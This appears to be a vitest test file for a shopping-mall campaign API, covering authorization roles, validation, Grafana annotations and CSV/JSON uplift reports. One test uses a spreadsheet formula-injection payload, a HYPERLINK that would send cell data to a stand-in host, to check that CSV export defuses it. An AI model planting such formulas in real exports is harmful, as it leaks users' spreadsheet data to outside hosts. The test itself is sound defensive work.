import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../core/logger.ts';
import { createMetricsRegistry } from '../../core/metrics.ts';
import { csvCell } from '../../dashboards/campaigns/csv.ts';
import { CampaignRepository } from '../../dashboards/campaigns/repository.ts';
import { CampaignService, type CampaignView } from '../../dashboards/campaigns/service.ts';
import type { SqliteStore } from '../../ingest/store/sqlite.ts';
import { sha256Hex } from '../../ops/auth.ts';
import { buildOpsApp } from '../../ops/server.ts';
import { tempDir } from '../support/tmp.ts';
import { dayMs, firstMondayMs, mall, storeWith, syntheticFootfall, timeZone } from './campaigns-fixture.ts';

const adminToken = 'admin-token-for-campaign-tests-0123';
const marketerToken = 'marketer-token-for-campaign-tests-01';
const viewerToken = 'viewer-token-for-campaign-tests-0123';
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

const hourMs = 3600 * 1000;
const startMs = firstMondayMs + 42 * dayMs + 10 * hourMs;
const endMs = firstMondayMs + 49 * dayMs;

describe('campaigns API', () => {
  let store: SqliteStore;
  const dataDir = tempDir('campaigns-api');
  const repository = new CampaignRepository(dataDir);
  let app: ReturnType<typeof buildOpsApp>;

  beforeAll(async () => {
    store = await storeWith(syntheticFootfall({ days: 49, seed: 31, effects: [{ store: 'a', fromMs: startMs, toMs: endMs, factor: 1.4 }] }));
    repository.open();
    const service = new CampaignService({
      repository,
      store,
      mallInfo: (m) => (m === mall ? { timeZone, stores: ['a', 'b', 'c', 'd'] } : undefined),
      logger: createLogger('silent'),
      now: () => endMs + dayMs,
    });
    app = buildOpsApp({
      host: '127.0.0.1',
      port: 0,
      token: adminToken,
      tokens: [
        { name: 'ops-marketing', role: 'marketer', tokenSha256: sha256Hex(marketerToken) },
        { name: 'wall-screen', role: 'viewer', tokenSha256: sha256Hex(viewerToken) },
      ],
      metrics: createMetricsRegistry(false),
      logger: createLogger('silent'),
      health: {},
      store,
      campaigns: service,
    });
  });
  afterAll(async () => {
    await app.close();
    repository.close();
    await store.close();
  });

  const body = { name: 'Spring sale', mall, stores: ['a', 'b'], controlStores: 'c, d', start: '2026-02-16T10:00', end: '2026-02-23T00:00', notes: 'posters at both entrances' };

  it('needs a token, lets viewers read and marketers change', async () => {
    expect((await app.inject({ url: '/api/campaigns' })).statusCode).toBe(401);
    expect((await app.inject({ url: '/api/campaigns', headers: bearer('wrong-token-wrong-token') })).statusCode).toBe(401);
    const refused = await app.inject({ method: 'POST', url: '/api/campaigns', headers: bearer(viewerToken), payload: body });
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toEqual({ error: 'this needs the marketer role; the token has viewer' });
    expect((await app.inject({ url: '/api/campaigns', headers: bearer(viewerToken) })).json()).toEqual({ campaigns: [] });

    const created = await app.inject({ method: 'POST', url: '/api/campaigns', headers: bearer(marketerToken), payload: { ...body, id: 'spring' } });
    expect(created.statusCode).toBe(201);
    expect(created.headers.location).toBe('/api/campaigns/spring');
    const { campaign, annotation } = created.json<{ campaign: CampaignView; annotation: string }>();
    expect(annotation).toBe('written');
    // Local mall time (UTC+8) without an offset in the input.
    expect(campaign).toMatchObject({ id: 'spring', stores: ['a', 'b'], controlStores: ['c', 'd'], start: '2026-02-16T10:00:00+08:00', end: '2026-02-23T00:00:00+08:00', startMs, endMs, timeZone });
    expect((await app.inject({ url: '/api/campaigns/spring/report', headers: bearer(viewerToken) })).statusCode).toBe(200);
    expect((await app.inject({ method: 'DELETE', url: '/api/campaigns/spring', headers: bearer(viewerToken) })).statusCode).toBe(403);
  });

  it('refuses invalid campaigns with every problem listed, unknown ids with 404 and duplicates with 409', async () => {
    const post = (payload: unknown) => app.inject({ method: 'POST', url: '/api/campaigns', headers: bearer(adminToken), payload: payload as Record<string, unknown> });
    const bad = await post({ ...body, stores: ['a', 'c'], controlStores: ['c'], start: '2026-02-23T00:00', end: '2026-02-16T10:00' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json<{ issues: string[] }>().issues).toEqual(['end: must be after start', 'controlStores: c cannot be both a campaign store and a control store']);
    expect((await post({ ...body, stores: ['a', 'zz'] })).json<{ issues: string[] }>().issues).toEqual(['stores: zz not configured for mall m1']);
    expect((await post({ ...body, stores: ['A b'] })).statusCode).toBe(400);
    expect((await post({ ...body, stores: [] })).json<{ issues: string[] }>().issues).toEqual(['stores: needs at least one store']);
    expect((await post({ ...body, start: '2026-02-30T10:00' })).json<{ issues: string[] }>().issues[0]).toMatch(/^start: must be an ISO 8601/);
    expect((await post({ ...body, name: '  ' })).json<{ issues: string[] }>().issues).toEqual(['name: must not be empty']);
    expect((await post({ ...body, owner: 'me' })).statusCode).toBe(400);
    const broken = await app.inject({ method: 'POST', url: '/api/campaigns', headers: { ...bearer(adminToken), 'content-type': 'application/json' }, payload: '{"name": ' });
    expect(broken.statusCode).toBe(400);
    expect((await post({ ...body, id: 'spring' })).statusCode).toBe(409);
    expect((await app.inject({ url: '/api/campaigns/nope', headers: bearer(adminToken) })).statusCode).toBe(404);
    expect((await app.inject({ url: '/api/campaigns/Bad%20Id', headers: bearer(adminToken) })).statusCode).toBe(400);
    expect((await app.inject({ method: 'PUT', url: '/api/campaigns/nope', headers: bearer(adminToken), payload: body })).statusCode).toBe(404);
    const renamed = await app.inject({ method: 'PUT', url: '/api/campaigns/spring', headers: bearer(adminToken), payload: { ...body, id: 'other' } });
    expect(renamed.statusCode).toBe(400);
    expect((await app.inject({ url: '/api/campaigns/spring/report?weeks=1', headers: bearer(adminToken) })).statusCode).toBe(400);
    expect((await app.inject({ url: '/api/campaigns/spring/report?exclude=2026-13-01', headers: bearer(adminToken) })).statusCode).toBe(400);
    expect((await app.inject({ url: '/api/campaigns/spring/report?format=xml', headers: bearer(adminToken) })).statusCode).toBe(400);
  });

  it('edits and deletes, keeping the Grafana annotation points in step', async () => {
    const annotations = async () =>
      (await store.query({ measurement: 'campaign', fields: ['end_ms', 'active'], aggregate: 'none', where: { mall, campaign: 'summer' }, fromMs: 0, toMs: endMs + 30 * dayMs })).map((r) => ({
        tsMs: r.tsMs,
        ...r.values,
      }));
    const created = await app.inject({ method: 'POST', url: '/api/campaigns', headers: bearer(marketerToken), payload: { ...body, id: 'summer', name: 'Summer' } });
    expect(created.statusCode).toBe(201);
    expect(await annotations()).toEqual([{ tsMs: startMs, end_ms: endMs, active: 1 }]);

    const moved = await app.inject({ method: 'PUT', url: '/api/campaigns/summer', headers: bearer(marketerToken), payload: { ...body, name: 'Summer', start: '2026-02-17T10:00+08:00' } });
    expect(moved.statusCode).toBe(200);
    expect(moved.json<{ campaign: CampaignView }>().campaign.startMs).toBe(startMs + dayMs);
    expect(await annotations()).toEqual([
      { tsMs: startMs, end_ms: endMs, active: 0 },
      { tsMs: startMs + dayMs, end_ms: endMs, active: 1 },
    ]);
    const got = await app.inject({ url: '/api/campaigns/summer', headers: bearer(viewerToken) });
    expect(got.json<{ campaign: CampaignView }>().campaign).toMatchObject({ name: 'Summer', start: '2026-02-17T10:00:00+08:00', notes: 'posters at both entrances' });

    const deleted = await app.inject({ method: 'DELETE', url: '/api/campaigns/summer', headers: bearer(marketerToken) });
    expect(deleted.json()).toEqual({ deleted: 'summer', annotation: 'written' });
    expect(await annotations()).toEqual([
      { tsMs: startMs, end_ms: endMs, active: 0 },
      { tsMs: startMs + dayMs, end_ms: endMs, active: 0 },
    ]);
    expect((await app.inject({ url: '/api/campaigns/summer', headers: bearer(viewerToken) })).statusCode).toBe(404);
    expect((await app.inject({ method: 'DELETE', url: '/api/campaigns/summer', headers: bearer(marketerToken) })).statusCode).toBe(404);
    // The repository is the same file the CLI opens.
    const again = new CampaignRepository(dataDir).open();
    expect(again.list().map((c) => c.id)).toEqual(['spring']);
    again.close();
  });

  it('reports the uplift as JSON and as spreadsheet-safe CSV', async () => {
    const json = await app.inject({ url: '/api/campaigns/spring/report?weeks=4', headers: bearer(viewerToken) });
    expect(json.statusCode).toBe(200);
    const report = json.json<{ method: { weeks: number }; control: { stores: { store: string; verdict: string; interval: { lowPct: number; highPct: number } }[] }; headline: string }>();
    expect(report.method.weeks).toBe(4);
    expect(report.headline).toBe('control');
    const a = report.control.stores.find((s) => s.store === 'a');
    expect(a?.verdict).toBe('increase');
    expect(a?.interval.lowPct).toBeLessThan(40);
    expect(a?.interval.highPct).toBeGreaterThan(40);
    expect(report.control.stores.find((s) => s.store === 'b')?.verdict).toBe('no-effect');

    const evil = await app.inject({ method: 'POST', url: '/api/campaigns', headers: bearer(adminToken), payload: { ...body, id: 'evil', name: '=HYPERLINK("http://x.example/?"&A1,"click")' } });
    expect(evil.statusCode).toBe(201);
    const csv = await app.inject({ url: '/api/campaigns/evil/report?format=csv', headers: bearer(viewerToken) });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe('attachment; filename="campaign-evil.csv"');
    const lines = csv.body.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
    expect(lines[0]).toBe('campaign,name,mall,method,store,days,during,expected,uplift_pct,interval_low_pct,interval_high_pct,verdict,verdict_text');
    expect(lines).toHaveLength(1 + 3 + 3);
    expect(lines[1]?.startsWith(`evil,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",m1,baseline,a,7,`)).toBe(true);
    expect(lines.slice(1).map((l) => /,m1,(baseline|control),(a|b|TOTAL),/.exec(l)?.slice(1, 3).join(' '))).toEqual(['baseline a', 'baseline b', 'baseline TOTAL', 'control a', 'control b', 'control TOTAL']);
  });
});

describe('CSV cells', () => {
  it('defuses formulas and quotes separators', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+86 555')).toBe("'+86 555");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=cmd')).toBe("'\t=cmd");
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('春季促销')).toBe('春季促销');
    expect(csvCell(-3.14159)).toBe('-3.14');
    expect(csvCell(null)).toBe('');
  });
});
